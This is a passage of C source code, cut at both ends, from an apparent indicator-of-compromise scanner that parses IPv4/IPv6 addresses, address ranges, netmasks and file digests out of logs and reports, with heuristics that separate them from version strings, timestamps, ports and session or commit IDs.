		/* "AssemblyVersion(\"1.0.0.2\")", a resource script's
		 * VALUE "FileVersion", "1.0.0.7" too */
		k--, key = 1;
		while (k > 0 && (t[k - 1] == ' ' || t[k - 1] == '\t'))
			k--;
		if (k > 0 && t[k - 1] == t[a - 1])
			k--;	/* the key's closing quote; a doubled
				 * '=' or ':' ("version==1.0.0.9") */
	} else if (k >= 3 && memcmp(t + k - 3, "：", 3) == 0) {
		k -= 3, key = 1;	/* "版本号：2.1.0.5": a full-width colon */
		while (k > 0 && (t[k - 1] == ' ' || t[k - 1] == '\t'))
			k--;
	}
	/* a requirement's ">= 9.16.4.42", "<=17.1.0.3" (one '>' alone
	 * starts a quoted line) */
	if (key && k >= 1 && (t[k - 1] == '<' || t[k - 1] == '>'))
		return small_first(sc, a);
	if ((key || !blank) && k >= 1 && (t[k - 1] == 'v' || t[k - 1] == 'V') &&
	    (k == 1 || !(sc->cls[(unsigned char)t[k - 2]] & C_ALNUM)))
		return 1;
	if (!blank && !key && k > 0 && t[k - 1] == '(')
		return version_paren(sc, k - 1);
	if (!blank && !key && k > 0 && t[k - 1] == '>' && xml_version(sc, k))
		return 1;
	if (blank && !key && k > 0 && ((sc->cls[(unsigned char)t[k - 1]] &
	    C_DIGIT) || t[k - 1] == '|') && small_first(sc, a) &&
	    release_train(sc, k, a))
		return 1;
	return version_word(sc, k, !key) || phone_before(sc, k) ||
	    version_chain(sc, k, depth) ||
	    (small_first(sc, a) && (upgrade_to_what(sc, k) ||
	    (blank && !key && vendor_product(sc, k))));
}

/* A question of the text outside a token asked at t[a] (version_before,
 * host_said), noted for the memo (see scan): its answer's bits, under
 * mask in memo_version, and where it was asked; one place is kept. */
static void
memo_note(struct ioc_scanner *sc, size_t a, int mask, int bits)
{
	if (!sc->memo_want)
		return;
	if (sc->memo_version && sc->memo_va != a)
		sc->memo_outside = 1;
	sc->memo_va = a;
	sc->memo_version = (sc->memo_version & ~mask) | bits;
}

/* version_before, the question noted for the memo. */
static int
memo_version_before(struct ioc_scanner *sc, size_t a)
{
	int yes = version_before(sc, a);

	memo_note(sc, a, VB_MASK, (sc->memo_version & VB_MASK) == VB_YES ||
	    yes ? VB_YES : VB_NO);
	return yes;
}

/* The networks that make up first..last, each at t[a..e): the fewest
 * CIDR blocks, an address alone as an address. The hosts of a network
 * of 256 addresses or more, "198.51.100.1-254" (its first and last
 * address, network and broadcast, left out), are that network. */
static void
emit_range(struct ioc_scanner *sc, uint32_t first, uint32_t last, size_t a,
    size_t e)
{
	uint64_t at = first, size;
	size_t bits;
	uint32_t mask;
	char v[32];

	for (bits = 32; bits > 0; bits--) {	/* the smallest cover */
		mask = ~(uint32_t)0 << (32 - bits);
		if ((first & mask) == (last & mask))
			break;
	}
	mask = bits ? ~(uint32_t)0 << (32 - bits) : 0;
	if (bits <= 24 && first - (first & mask) <= 1 &&
	    ((first & mask) | ~mask) - last <= 1) {
		format4(v, first & mask);
		format_bits(v + strlen(v), bits);
		emit(sc, IOC_CIDR, v, a, e, class4(first & mask));
		return;
	}
	while (at <= last && !sc->stop) {
		size = at ? at & -at : (uint64_t)1 << 32;
		while (at + size - 1 > last)
			size >>= 1;
		for (bits = 32; ((uint64_t)1 << (32 - bits)) < size; bits--)
			;
		format4(v, (uint32_t)at);
		if (bits == 32) {
			emit(sc, IOC_IPV4, v, a, e, class4((uint32_t)at));
		} else {
			format_bits(v + strlen(v), bits);
			emit(sc, IOC_CIDR, v, a, e, class4((uint32_t)at));
		}
		at += size;
	}
}

/* first..last (first <= last) is one network: its size a power of
 * two, first on its boundary ("0.0.0.0-255.255.255.255" too). */
static int
one_network4(uint32_t first, uint32_t last)
{
	uint32_t span = last - first;

	return (span & (span + 1)) == 0 && (first & span) == 0;
}

/*
 * An address range at t[a..b), its first address (from) already read,
 * ending at t[e], and t[c] after the dash or '~':
 * "198.51.100.10-198.51.100.20", or the last octet alone,
 * "198.51.100.10-20", as lists of hosts write them. Its networks are
 * emitted; two addresses that make no range (the second lower, or in
 * another /8) are each emitted. 0 when t[c..b) is no address nor octet.
 */
static int
try_range(struct ioc_scanner *sc, size_t a, size_t e, size_t c, size_t b,
    uint32_t from)
{
	const char *t = sc->text.data;
	uint32_t to;
	size_t k, d;
	char v[32];

	if ((k = parse_ipv4(t + c, b - c, &to)) == 0) {
		for (d = c, to = 0; d < b && d < c + 3 &&
		    (sc->cls[(unsigned char)t[d]] & C_DIGIT); d++)
			to = to * 10 + (uint32_t)(t[d] - '0');
		if (d == c || d < b || to > 255 || to < (from & 255))
			return 0;
		to |= from & ~(uint32_t)255;
		k = d - c;
	} else if (c + k < b) {
		return 0;	/* "1.2.3.4-1.2.3.5x" */
	}
	/* the second lower, or in another /8 (a flow's "192.0.2.1-
	 * 203.0.113.5": as a range, the networks of twelve /8s, each to be
	 * notified; range_whole's rule) and no one network
	 * ("0.0.0.0-255.255.255.255" is): two addresses */
	if (to < from || (to >> 24 != from >> 24 &&
	    !one_network4(from, to))) {
		format4(v, from);
		emit(sc, IOC_IPV4, v, a, e, class4(from));
		format4(v, to);
		emit(sc, IOC_IPV4, v, c, c + k, class4(to));
		return 1;
	}
	emit_range(sc, from, to, a, c + k);
	return 1;
}

/*
 * Whether t[d..b), the end of a token after its address, is a port as
 * tcpdump writes it, "198.51.100.7.443 > 203.0.113.5.53211: Flags [S]":
 * a dot and a port, the token on either side of " > ", the other side
 * ending in a digit, the right side followed by ": ". Elsewhere
 * "1.2.3.4.5" is an OID or a version. What surrounds the token
 * decides, so what it gives is not remembered.
 */
static int
tcpdump_port(struct ioc_scanner *sc, size_t d, size_t b)
{
	const char *t = sc->text.data;
	size_t n = sc->text.len, p, port = 0, a;

	for (p = d + 1; p < b && p <= d + 5 &&
	    (sc->cls[(unsigned char)t[p]] & C_DIGIT); p++)
		port = port * 10 + (size_t)(t[p] - '0');
	if (p != b || port > 65535)
		return 0;
	sc->memo_outside = 1;
	for (a = d; a > 0 && t[a - 1] != ' ' && t[a - 1] != '\n'; a--)
		;
	if (b + 3 < n && memcmp(t + b, " > ", 3) == 0) {	/* the source */
		for (p = b + 3; p + 1 < n && p < b + 52 && (t[p] == '.' ||
		    t[p] == ':' || (sc->cls[(unsigned char)t[p]] & C_HEX));
		    p++)
			if (t[p] == ':' && t[p + 1] == ' ')
				return p > b + 3 &&
				    (sc->cls[(unsigned char)t[p - 1]] &
				    C_DIGIT);
		return 0;
	}
	return b + 1 < n && t[b] == ':' && t[b + 1] == ' ' && a >= 4 &&
	    memcmp(t + a - 3, " > ", 3) == 0 &&
	    (sc->cls[(unsigned char)t[a - 4]] & C_DIGIT);
}

/* The mask of an IPv4 network of bits (0 to 32) bits. */
static uint32_t
prefix_mask4(size_t bits)
{
	return bits == 0 ? 0 : 0xffffffffu << (32 - bits);
}

/*
 * Whether the address at t[a], a slash and a number after it, is
 * written as Cisco ASA's logs write an address and its port: the
 * interface's name glued before it, "inside:10.0.0.6/22", or in
 * parentheses after such a one, the address it maps to,
 * "outside:198.51.100.7/22 (203.0.113.9/22)". Asked when the address
 * has host bits under the prefix the number would be (a network
 * written so has none): 22 is then ssh's port, not a /22.
 */
static int
asa_port(struct ioc_scanner *sc, size_t a)
{
	const char *t = sc->text.data;
	const char *colon;
	size_t k, port = 0;
	uint32_t addr;

	if (a > 0 && t[a - 1] == ':')
		return 1;	/* the name is the token's (word_colon) */
	sc->memo_outside = 1;	/* what is before the token decides */
	if (a < 3 || t[a - 1] != '(' || t[a - 2] != ' ')
		return 0;
	for (k = a - 2; k > 0 && t[k - 1] != ' ' && t[k - 1] != '\n'; k--)
		;
	if ((colon = memchr(t + k, ':', a - 2 - k)) == NULL ||
	    (k = parse_ipv4(colon + 1, (size_t)(t + a - 2 - colon - 1),
	    &addr)) == 0 || colon[1 + k] != '/')
		return 0;
	for (k += 2; colon + k < t + a - 2 && k < 64 &&
	    (sc->cls[(unsigned char)colon[k]] & C_DIGIT); k++)
		port = port * 10 + (size_t)(colon[k] - '0');
	return colon + k == t + a - 2 && colon[k - 1] != '/' &&
	    (port > 32 || (addr & ~prefix_mask4(port)));	/* one too */
}

/* An address with a prefix length, "198.51.100.7/24" (the host's bits
 * kept, as an interface's address is written), t[a..e): a /32 is the
 * host alone, the same indicator as the address written bare. */
static void
host_or_network4(struct ioc_scanner *sc, uint32_t addr, size_t bits,
    size_t a, size_t e)
{
	char v[32], *end = format4(v, addr);

	if (bits < 32)
		format_bits(end, bits);
	emit(sc, bits < 32 ? IOC_CIDR : IOC_IPV4, v, a, e, class4(addr));
}

/*
 * The length of the network a mask m stands for: a netmask
 * ("255.255.255.0", 24), or a wildcard mask as routers' access lists
 * write it ("0.0.0.255", 24). -1 for any other: a netmask here starts
 * with 255 (a /8 or longer) and is no 255.255.255.255 (the limited
 * broadcast, an address in a list as often), a wildcard starts with 0
 * and is no 0.0.0.0 (a route's "0.0.0.0 0.0.0.0" is the default one).
 */
static int
mask_bits(uint32_t m)
{
	if (m >> 24 == 255 && m != UINT32_MAX && (~m & (~m + 1)) == 0)
		return __builtin_popcount(m);
	if (m >> 24 == 0 && m != 0 && (m & (m + 1)) == 0)
		return 32 - __builtin_popcount(m);
	return -1;
}

/* Where the mask after an address starts, from the blank at t[c] (the
 * text's end at e): past blanks and the word "mask" or "netmask" if it
 * is written (Windows' "route ADD 157.0.0.0 MASK 255.0.0.0", ifconfig's
 * "inet 192.168.1.5 netmask 255.255.255.0"). */
static size_t
mask_start(const char *t, size_t c, size_t e)
{
	while (c < e && (t[c] == ' ' || t[c] == '\t'))
		c++;
	if (c < e && ((t[c] | 0x20) == 'm' || (t[c] | 0x20) == 'n') &&
	    (ci_prefix(t + c, e - c, "mask ") ||
	    ci_prefix(t + c, e - c, "netmask "))) {
		while (t[c] != ' ')
			c++;
		while (c < e && t[c] == ' ')
			c++;
	}
	return c;
}

/* The length of the network the mask after an address gives, from the
 * blank at t[c] to e ("10.0.0.0 255.0.0.0", "10.1.1.0 0.0.0.255":
 * mask_start, mask_bits); -1 when there is none. */
static int
spaced_mask(const char *t, size_t c, size_t e)
{
	uint32_t m;

	c = mask_start(t, c, e);
	return c < e && parse_ipv4(t + c, e - c, &m) == e - c ? mask_bits(m) :
	    -1;
}

/* A group of the dotted quad s (n bytes, as parse_ipv4 took it) is two
 * digits, the first a zero: a time ("08.15.22.123", hours to
 * milliseconds; an uptime's "3.02.04.15") or a date, not an address,
 * which pads its groups to three digits if at all ("008"). */
static int
two_digit_zero(const char *s, size_t n)
{
	size_t i, g;

	for (i = 0; i < n; i++) {
		for (g = i; i < n && s[i] != '.'; i++)
			;
		if (i - g == 2 && s[g] == '0')
			return 1;
	}
	return 0;
}

/* An IPv4 address or network at t[a..b): a token, or a login's host
 * ("root@192.0.2.1", scp's "user@192.0.2.1:path"). */
static int
try_ipv4(struct ioc_scanner *sc, size_t a, size_t b)
{
	const char *t = sc->text.data;
	size_t k, bits = 0, d;
	uint32_t addr, mask;
	int mb;
	char v[32];

	if ((k = parse_ipv4(t + a, b - a, &addr)) == 0)
		return 0;
	if (a + k < b && (sc->cls[(unsigned char)t[a + k]] & C_ALNUM))
		return 0;	/* 1.2.3.4x */
	if (a + k == b && addr >> 24 == 255 && mask_bits(addr) >= 0)
		return 1;	/* a netmask ("Subnet Mask: 255.255.255.0") */
	if (a + k < b && t[a + k] == '.' && a + k + 1 < b &&
	    (sc->cls[(unsigned char)t[a + k + 1]] & C_DIGIT)) {
		if (!tcpdump_port(sc, a + k, b))
			return 0;	/* 1.2.3.4.5: an OID or a version */
		format4(v, addr);
		emit(sc, IOC_IPV4, v, a, a + k, class4(addr));
		return 1;
	}
	if (two_digit_zero(t + a, k))
		return 0;	/* "08.15.22.123", a time */
	if (memo_version_before(sc, a))
		return 0;	/* v1.2.3.4, version 1.2.3.4 */
	if (thousands(t + a, k) && (a + k == b || t[a + k] != '/'))
		return 0;	/* 2.100.000.000 euros; not a network's /8 */
	if (a + k + 1 < b && t[a + k] == '.' &&
	    (sc->cls[(unsigned char)t[a + k + 1]] & C_ALNUM)) {
		if (b - (a + k) != 13 || strncasecmp(t + a + k,
		    ".in-addr.arpa", 13) != 0)
			return 0;	/* a name: token() reads it */
		/* a PTR name: the address it stands for, the octets the
		 * other way round (7.100.51.198.in-addr.arpa; token() took
		 * the dot after it off) */
		addr = addr >> 24 | (addr >> 8 & 0xff00) |
		    (addr << 8 & 0xff0000) | addr << 24;
		format4(v, addr);
		emit(sc, IOC_IPV4, v, a, b, class4(addr));
		return 1;
	}
	if (a + k + 1 < b && t[a + k] == '/' &&
	    (d = parse_ipv4(t + a + k + 1, b - a - k - 1, &mask)) != 0) {
		/* a netmask, "10.0.0.0/255.0.0.0" (ACLs' "any",
		 * 0.0.0.0/0.0.0.0, too); or two addresses, "8.8.8.8/8.8.4.4"
		 * (not the network 8.8.8.8/8) */
		if ((~mask & (~mask + 1)) == 0) {
			for (bits = 0; mask; mask <<= 1)
				bits++;
			host_or_network4(sc, addr, bits, a, a + k + 1 + d);
			return 1;
		}
		format4(v, addr);
		emit(sc, IOC_IPV4, v, a, a + k, class4(addr));
		(void)try_ipv4(sc, a + k + 1, b);
		return 1;
	}
	if (a + k + 1 < b && t[a + k] == '/') {
		for (d = a + k + 1; d < b && d < a + k + 4 &&
		    (sc->cls[(unsigned char)t[d]] & C_DIGIT); d++)
			bits = bits * 10 + (size_t)(t[d] - '0');
		if (d > a + k + 1 && bits <= 32 && (d == b ||
		    !(sc->cls[(unsigned char)t[d]] & C_ALNUM)) &&
		    !(t[d] == '.' && (sc->cls[(unsigned char)t[d + 1]] &
		    C_DIGIT)) &&	/* "/24.5": no prefix length */
		    !((addr & ~prefix_mask4(bits)) && asa_port(sc, a))) {
			host_or_network4(sc, addr, bits, a, d);
			return 1;
		}
	}
	if (a + k < b && (t[a + k] == ' ' || t[a + k] == '\t') &&
	    (mb = spaced_mask(t, a + k, b)) >= 0) {
		host_or_network4(sc, addr, (size_t)mb, a, b);	/* mask_whole's */
		return 1;
	}
	if (a + k + 1 < b && (d = t[a + k] == '~' ? 1 :
	    dash_len(t + a + k, b - a - k)) != 0 && a + k + d < b &&
	    try_range(sc, a, a + k, a + k + d, b, addr))
		return 1;	/* "-", "~", a word processor's dash */
	if (a + k < b && ((d = spaced_dash(t + a + k, b - a - k)) != 0 ||
	    (d = cjk_to(t + a + k, b - a - k)) != 0) &&
	    try_range(sc, a, a + k, a + k + d, b, addr))
		return 1;	/* cut as one token by range_whole */
	format4(v, addr);
	if (a + k + 1 < b && t[a + k] == '/' &&
	    slash_hosts(sc, a + k, b, 0)) {
		/* "203.0.113.5/evil.com": an address and a name */
		emit(sc, IOC_IPV4, v, a, a + k, class4(addr));
		return slash_hosts(sc, a + k, b, 1);
	}
	if (a + k < b && (t[a + k] == '/' ||	/* a path */
	    port_path(sc, a + k, b)))
		host_path(sc, a, a + k, defanged(sc, a, a + k), IOC_IPV4, v,
		    class4(addr));
	else
		emit(sc, IOC_IPV4, v, a, a + k, class4(addr));
	return 1;
}

typedef unsigned __int128 u128;

static u128
get128(const unsigned char b[16])
{
	u128 v = 0;
	int i;

	for (i = 0; i < 16; i++)
		v = v << 8 | b[i];
	return v;
}

static void
put128(u128 v, unsigned char b[16])
{
	int i;

	for (i = 15; i >= 0; i--, v >>= 8)
		b[i] = (unsigned char)v;
}

/* The IPv6 networks that make up first..last, each at t[a..e): the
 * fewest CIDR blocks (254 at most; 190 from try_range6, which keeps
 * a range in one /32), an address alone as an address. */
static void
emit_range6(struct ioc_scanner *sc, u128 first, u128 last, size_t a,
    size_t e)
{
	unsigned char b[16];
	char v[IPADDR_V6_MAX + 8], *end;
	u128 at = first, span = 0;
	int bits;

	for (;;) {
		for (bits = 0; bits <= 128; bits++) {	/* the largest block */
			span = bits == 0 ? ~(u128)0 : bits == 128 ? 0 :
			    ((u128)1 << (128 - bits)) - 1;
			if ((at & span) == 0 && last - at >= span)
				break;
		}
		put128(at, b);
		end = ipaddr_format6(b, v);
		if (bits == 128) {
			emit(sc, IOC_IPV6, v, a, e, class6(b));
		} else {
			format_bits(end, (size_t)bits);
			emit(sc, IOC_CIDR, v, a, e, class6(b));
		}
		if (last - at == span || sc->stop)
			return;
		at += span + 1;
	}
}

/* An IPv6 address at t[a..b), into bytes: the bytes it takes (hex
 * digits, colons, a dotted quad's dots), 0 if none. */
static size_t
parse_ipv6(const struct ioc_scanner *sc, const char *t, size_t a, size_t b,
    unsigned char bytes[16])
{
	char addr[64];
	size_t e = a, colons = 0;

	while (e < b && ((sc->cls[(unsigned char)t[e]] & C_HEX) ||
	    t[e] == ':' || t[e] == '.'))
		colons += t[e++] == ':';
	if (colons < 2 || e - a >= sizeof(addr))
		return 0;
	memcpy(addr, t + a, e - a);
	addr[e - a] = '\0';
	return inet_pton(AF_INET6, addr, bytes) == 1 ? e - a : 0;
}

/* first..last is one network: its size a power of two, first on its
 * boundary ("::-ffff:...:ffff", all of it, too). */
static int
one_network6(u128 first, u128 last)
{
	u128 span = last - first;

	return (span & (span + 1)) == 0 && (first & span) == 0;
}

/*
 * An IPv6 range at t[a..b), its first address (from) already read and
 * t[c] after the '-' or '~': "2001:db8::10-2001:db8::1f". Its networks
 * are emitted; two addresses that make no range (the second lower, or
 * in another /32) are each emitted. 0 when t[c..b) is no address.
 */
static int
try_range6(struct ioc_scanner *sc, size_t a, size_t c, size_t b,
    const unsigned char from[16])
{
	const char *t = sc->text.data;
	unsigned char to[16];
	char v[IPADDR_V6_MAX];
	size_t k;

	if ((k = parse_ipv6(sc, t, c, b, to)) == 0 || (c + k < b &&
	    (sc->cls[(unsigned char)t[c + k]] & C_ALNUM)))
		return 0;
	/* the second lower, or in another /32 and no one network (as
	 * try_range's /8): two addresses */
	if (get128(to) < get128(from) || (memcmp(to, from, 4) != 0 &&
	    !one_network6(get128(from), get128(to)))) {
		ipaddr_format6(from, v);
		emit(sc, IOC_IPV6, v, a, c - 1, class6(from));
		ipaddr_format6(to, v);
		emit(sc, IOC_IPV6, v, c, c + k, class6(to));
		return 1;
	}
	emit_range6(sc, get128(from), get128(to), a, c + k);
	return 1;
}

/* tcpdump's "IP6 2001:db8::1.443 > 2001:db8::2.53211: Flags [S]" (see
 * tcpdump_port): the address of addr, t[a..e) copied (a ':' after the
 * port may end it), when a dot and a port follow it there. */
static int
tcpdump6(struct ioc_scanner *sc, size_t a, size_t e, char *addr)
{
	unsigned char bytes[16];
	char v[IPADDR_V6_MAX], *dot = strrchr(addr, '.');
	size_t d, p;

	if (dot == NULL)
		return 0;
	d = a + (size_t)(dot - addr);
	for (p = d + 1; p < e && (sc->cls[(unsigned char)sc->text.data[p]] &
	    C_DIGIT); p++)
		;
	*dot = '\0';
	if (!tcpdump_port(sc, d, p) || inet_pton(AF_INET6, addr, bytes) != 1)
		return 0;
	ipaddr_format6(bytes, v);
	emit(sc, IOC_IPV6, v, a, d, class6(bytes));
	return 1;
}

/* An IPv6 address or network: t[a..b) holds hex digits and colons (a
 * dotted quad may end it), perhaps in brackets, perhaps with /len. */
static int
try_ipv6(struct ioc_scanner *sc, size_t a, size_t b)
{
	const char *t = sc->text.data;
	unsigned char bytes[16];
	char v[IPADDR_V6_MAX + 8], addr[64], *end;
	size_t e = a, colons = 0, bits = 0, d, k;

	if (t[e] == '[')
		a = ++e;
	while (e < b && ((sc->cls[(unsigned char)t[e]] & C_HEX) ||
	    t[e] == ':' || t[e] == '.'))
		colons += t[e++] == ':';
	if (colons < 2 || e - a >= sizeof(addr) || (e < b &&
	    ascii_alnum((unsigned char)t[e])))
		return 0;	/* and not "2001:db8::g", a word */
	for (k = a, d = 0; k < e; k++)
		d += (sc->cls[(unsigned char)t[k]] & C_HEX) != 0;
	if (d < 4 && !(e - a == 3 && memcmp(t + a, "::1", 3) == 0))
		return 0;	/* "a::b", "std::x": code, not addresses */
	memcpy(addr, t + a, e - a);
	addr[e - a] = '\0';
	if (inet_pton(AF_INET6, addr, bytes) != 1)
		return tcpdump6(sc, a, e, addr);
	end = ipaddr_format6(bytes, v);
	buf_reset(&sc->value);
	buf_add(&sc->value, v, (size_t)(end - v));	/* for a URL's host */
	sc->last_class = class6(bytes);
	if (e + 1 < b && t[e] == '/') {
		for (d = e + 1; d < b && d < e + 5 &&
		    (sc->cls[(unsigned char)t[d]] & C_DIGIT); d++)
			bits = bits * 10 + (size_t)(t[d] - '0');
		if (d > e + 1 && bits <= 128 && (d == b ||
		    !((sc->cls[(unsigned char)t[d]] & C_HEX) || t[d] == ':'))) {
			if (bits < 128)	/* a /128 is the host alone */
				format_bits(end, bits);
			emit(sc, bits < 128 ? IOC_CIDR : IOC_IPV6, v, a, d,
			    class6(bytes));
			return 1;
		}
		/* two addresses, "2001:db8::1/2001:db8::2": not the first's
		 * network /2001, nor a /12 of "/12::" */
		emit(sc, IOC_IPV6, v, a, e, class6(bytes));
		(void)try_ipv6(sc, e + 1, b);
		return 1;
	}
	if (e + 1 < b && (t[e] == '-' || t[e] == '~') &&
	    try_range6(sc, a, e + 1, b, bytes))
		return 1;
	emit(sc, IOC_IPV6, v, a, e, class6(bytes));
	return 1;
}

/* Hex with a digit: a digest's 32 hex digits are all letters once in
 * 10^13 ("deadbeef" four times is a placeholder, not a sample). */
static int
all_hex(const struct ioc_scanner *sc, const char *s, size_t n)
{
	size_t i = 0;
	unsigned digit = 0;
	v16 a;

	for (; i + 16 <= n; i += 16) {	/* a digest: 16 digits a step */
		memcpy(&a, s + i, 16);
		if (lanes(IN_RANGE(a, '0', '9') | IN_RANGE((v16)(a | 0x20),
		    'a', 'f')) != 0xffff)
			return 0;
		digit |= lanes(IN_RANGE(a, '0', '9'));
	}
	for (; i < n; i++) {
		if (!(sc->cls[(unsigned char)s[i]] & C_HEX))
			return 0;
		digit |= sc->cls[(unsigned char)s[i]] & C_DIGIT;
	}
	return digit != 0;
}

/* The digest whose hex is n digits long (MD5, SHA-1, SHA-256,
 * SHA-512), IOC_NTYPES when none is. */
static enum ioc_type
digest_type(size_t n)
{
	switch (n) {
	case 32: return IOC_MD5;
	case 40: return IOC_SHA1;
	case 64: return IOC_SHA256;
	case 128: return IOC_SHA512;
	default: return IOC_NTYPES;
	}
}

/* A name's last word that names nothing alone ("request id", "commit
 * hash", "serial number", "api key"): it is read with the one before. */
static int
name_tail(const char *w, size_t n)
{
	return (n == 2 && strncasecmp(w, "id", 2) == 0) ||
	    (n == 3 && strncasecmp(w, "key", 3) == 0) ||
	    (n == 4 && strncasecmp(w, "hash", 4) == 0) ||
	    (n == 6 && strncasecmp(w, "number", 6) == 0);
}

/* Whether s (n bytes), a URL's step or a query's key, names a sample:
 * "file", "files", "sample", "samples", "hash", "filehash" or a
 * digest's name. */
static int
sample_word(const char *s, size_t n)
{
	static const char *const words[] = {
		"file", "files", "sample", "samples", "hash", "md5", "sha1",
		"sha256", "sha512", "filehash", NULL,
	};

	return word_in(s, n, words);
}

/* Whether the JSON key ending at t[k] (its opening quote, or what is
 * before the key) opens an object named "ja3" or "ja3s", as Suricata's
 * eve.json writes a TLS client's: {"ja3":{"hash":"e7d7...","string":
 * ...}}. */
static int
ja3_object(const struct ioc_scanner *sc, size_t k)
{
	const char *t = sc->text.data;
	size_t e;

	if (t[k] != '"')
		return 0;
	while (k > 0 && (t[k - 1] == ' ' || t[k - 1] == '\t'))
		k--;
	if (k == 0 || t[k - 1] != '{')
		return 0;
	for (k--; k > 0 && (t[k - 1] == ' ' || t[k - 1] == '\t'); k--)
		;
	if (k < 2 || t[k - 1] != ':')
		return 0;
	for (k--; k > 0 && (t[k - 1] == ' ' || t[k - 1] == '\t'); k--)
		;
	if (k < 2 || t[k - 1] != '"')
		return 0;
	for (e = --k; k > 0 && (sc->cls[(unsigned char)t[k - 1]] & C_ALNUM);
	    k--)
		;
	return k > 0 && t[k - 1] == '"' && (e - k == 3 || (e - k == 4 &&
	    (t[k + 3] | 0x20) == 's')) && strncasecmp(t + k, "ja3", 3) == 0;
}

/*
 * Whether the hex at t[a] (a digest's length, bare or in colon pairs) is
 * the value of a name that says what else it is: a session's or a
 * request's id, a token or a key, a ledger's transaction, a commit, a
 * certificate's serial number ("PHPSESSID=5f4d...", "X-Request-ID:
 * 9f14...", "txid 4a5e...", "fixed in commit 3f78...", "Serial
 * Number:" with the number on the next line, as openssl prints it), a
 * digest of a program's imports or of a TLS client's greeting
 * ("IMPHASH=a1b2...", "ja3: e7d7...").
 * Reports quote logs, cookies and advisories; none of these is a
 * sample's digest. The name ends before the value, with ':' or '=' or
 * blanks between (and JSON's quotes); its words are read as one,
 * whatever joins them ("request id", "request_id", "X-Request-ID" and
 * "requestId" are "requestid"). A name of no such thing ("md5=",
 * "file_hash:", "sha256 ") leaves the digest one; in a link's query
 * ("evil.com/login.php?id=5f4d..."), only a sample's (sample_word).
 */
static int __attribute__((noinline))
other_value(const struct ioc_scanner *sc, size_t a)
{
	static const char *const names[] = {
		"phpsessid", "jsessionid", "sessionid", "session", "sid",
		"token", "accesstoken", "authtoken", "csrftoken", "nonce",
		"salt", "secret", "password", "apikey", "guid", "uuid",
		"requestid", "traceid", "spanid", "correlationid",
		"activityid", "ray", "rayid",
		"transaction", "transactionid", "transactionhash", "tx",
		"txid", "txhash", "blockhash",
		"commit", "commitid", "commithash", "revision", "changeset",
		"serial", "serialnumber",
		/* a digest of something else than a sample: a program's
		 * imports (Sysmon's "IMPHASH="), a TLS or SSH client's
		 * greeting */
		"imphash", "ja3", "ja3s", "ja3hash", "ja3shash", "ja3digest",
		"hassh", "hasshserver",
		/* an HTTP response's validator, a CDN's request ("ETag:",
		 * "X-Amz-Cf-Id:") */
		"etag", "cfid", NULL,
	};
	const char *t = sc->text.data;
	char key[24];
	size_t k = a, e, s, n = 0, i;
	int sep = 0;

	if (!(sc->cls[(unsigned char)t[a]] & C_HEX))
		return 0;	/* the memo's question: "hxxps://..." is none */
	if (k > 0 && (t[k - 1] == '"' || t[k - 1] == '\''))
		k--;
	for (; k > 0 && (t[k - 1] == ' ' || t[k - 1] == '\t'); k--)
		sep = 1;
	if (k > 0 && t[k - 1] == '\n') {	/* "Serial Number:\n  1c:e7" */
		for (k--; k > 0 && (t[k - 1] == '\r' || t[k - 1] == ' ' ||
		    t[k - 1] == '\t'); k--)
			;
		if (k == 0 || t[k - 1] != ':')
			return 0;
	}
	if (k > 0 && (t[k - 1] == ':' || t[k - 1] == '=')) {
		sep = 1;
		for (k--; k > 0 && (t[k - 1] == ' ' || t[k - 1] == '\t'); k--)
			;
		if (k > 0 && (t[k - 1] == '"' || t[k - 1] == '\''))
			k--;
	}
	/* each name ends in a letter but JA3's; most digests' ("md5 ",
	 * "SHA256:") in a digit */
	if (!sep || k == 0 || !(sc->cls[(unsigned char)t[k - 1]] & C_ALNUM) ||
	    ((sc->cls[(unsigned char)t[k - 1]] & C_DIGIT) && !(t[k - 1] ==
	    '3' && k >= 3 && strncasecmp(t + k - 3, "ja", 2) == 0)))
		return 0;
	for (e = k; k > 0 && (sc->cls[(unsigned char)t[k - 1]] & C_ALNUM);
	    k--)
		;
	if (name_tail(t + k, e - k) && k >= 1 && (t[k - 1] == ' ' ||
	    t[k - 1] == '_' || t[k - 1] == '-' || t[k - 1] == '.'))
		for (k--; k > 0 && (sc->cls[(unsigned char)t[k - 1]] &
		    C_ALNUM); k--)
			;
	/* (a longer name is cut, and is none of them) */
	for (s = k; s < e && n < sizeof(key) - 1; s++)
		if (sc->cls[(unsigned char)t[s]] & C_ALNUM)
			key[n++] = (char)(t[s] | 0x20);
	key[n] = '\0';
	for (i = 0; names[i]; i++)
		if (names[i][0] == key[0] && strcmp(key, names[i]) == 0)
			return 1;
	if (strcmp(key, "hash") == 0 && k > 0 && ja3_object(sc, k - 1))
		return 1;
	/* a link's query, "?u=", "&id=": its own id, as in a URL
	 * (url_hashes) */
	return t[a - 1] == '=' && k > 0 && (t[k - 1] == '?' ||
	    t[k - 1] == '&') && !sample_word(key, n);
}

/* A token of n bytes may be a digest: its hex (try_hash) or its bytes'
 * hex pairs between colons (try_colon_hash). */
static inline int
digest_shape(size_t n)
{
	switch (n) {
	case 32: case 40: case 64: case 128:	/* MD5 ... SHA-512 */
	case 47: case 59: case 95: case 191:	/* 16 ... 64 pairs */
		return 1;
	default:
		return 0;
	}
}

/* MD5, SHA-1, SHA-256, SHA-512: a hex token of exactly their length,
 * with a digit. */
static int
try_hash(struct ioc_scanner *sc, size_t a, size_t b)
{
	enum ioc_type type = digest_type(b - a);
	size_t k;
	char *v;
	v16 x;

	if (!all_hex(sc, sc->text.data + a, b - a))
		return 0;
	if (other_value(sc, a))
		return 1;	/* a session's id, a commit: nothing */
	buf_reset(&sc->value);
	buf_grow(&sc->value, b - a);
	v = sc->value.data;
	for (k = 0; k + 16 <= b - a; k += 16) {	/* lowercase */
		memcpy(&x, sc->text.data + a + k, 16);
		x |= 0x20;
		memcpy(v + k, &x, 16);
	}
	for (; k < b - a; k++)
		v[k] = (char)(sc->text.data[a + k] | 0x20);
	v[sc->value.len = b - a] = '\0';
	emit(sc, type, sc->value.data, a, b, IOC_PUBLIC);
	return 1;
}

/* A digest as openssl and X.509 tools print a certificate's, its
 * bytes' hex pairs between colons ("SHA256 Fingerprint=AB:CD:..."): of
 * MD5's, SHA-1's, SHA-256's or SHA-512's size, with a digit (a MAC
 * address, a serial number or an IPv6 address is of no such size). */
static int
try_colon_hash(struct ioc_scanner *sc, size_t a, size_t b)
{
	const char *t = sc->text.data;
	enum ioc_type type;
	size_t k;
	int digit = 0;

	if ((b - a + 1) % 3 != 0 ||	/* "ab:cd": pairs, a colon between */
	    (type = digest_type((b - a + 1) / 3 * 2)) == IOC_NTYPES)
		return 0;
	buf_reset(&sc->value);
	for (k = a; k < b; k++) {
